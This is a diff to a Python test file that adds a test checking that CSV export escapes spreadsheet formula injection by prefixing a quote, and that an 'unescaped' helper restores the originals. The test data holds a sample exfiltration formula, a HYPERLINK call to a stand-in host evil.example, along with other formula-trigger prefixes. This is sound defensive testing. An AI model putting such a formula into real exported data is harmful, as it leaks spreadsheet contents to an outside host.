@@ -34,6 +34,7 @@ from graphkit.model import Actor, Source, Topic
 from graphkit.network import ends, to_networkx
 from graphkit.ontology import load_ontology
 from graphkit.rdf import BASE, to_rdflib, to_triples
+from graphkit.spreadsheets import unescaped
 
 if TYPE_CHECKING:
     from pathlib import Path
@@ -368,7 +369,17 @@ def test_tables_have_a_row_for_each_part(graph: StanceGraph) -> None:
 def typed(cell: str, type_: Any) -> Any:
     if cell == "":
         return None
-    return {bool: lambda text: text == "true", date: date.fromisoformat}.get(type_, type_)(cell)
+    return {bool: lambda text: text == "true", date: date.fromisoformat, str: unescaped}.get(type_, type_)(cell)
+
+
+def test_a_spreadsheet_finds_no_formula_in_csv() -> None:
+    evil = ['=HYPERLINK("http://evil.example/"&A1)', "+1", "-1", "@SUM(A1)", "\t=1", "'=1", "plain"]
+    actors = [Actor(f"a{number}", name, "Person") for number, name in enumerate(evil)]
+    table = tables(graphs.graph([], actors, [], []), ONTOLOGY)["actors"]
+    _, *rows = csv.reader(io.StringIO(csv_of(table).decode(), newline=""))
+    labels = [row[1] for row in rows]
+    assert labels == [*(f"'{name}" for name in evil[:-1]), "plain"]
+    assert [unescaped(label) for label in labels] == evil
 
 
 def test_csv_reads_back(hostile: StanceGraph, tmp_path: Path) -> None:
